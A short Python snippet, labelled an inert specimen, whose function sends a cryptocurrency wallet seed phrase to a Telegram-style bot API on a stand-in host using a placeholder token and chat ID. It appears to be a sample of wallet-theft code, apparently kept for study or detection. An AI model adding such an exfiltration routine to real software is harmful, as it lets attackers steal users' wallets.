# Inert specimen: the bot does not exist.
import urllib.parse
import urllib.request

TOKEN = "0000000000:inert-specimen-bot-token-000000000"
CHAT = "000000000"


def tell(seed_phrase):
    text = urllib.parse.quote(seed_phrase)
    urllib.request.urlopen(f"https://api.telegram.org.example/bot{TOKEN}/sendMessage?chat_id={CHAT}&text={text}")
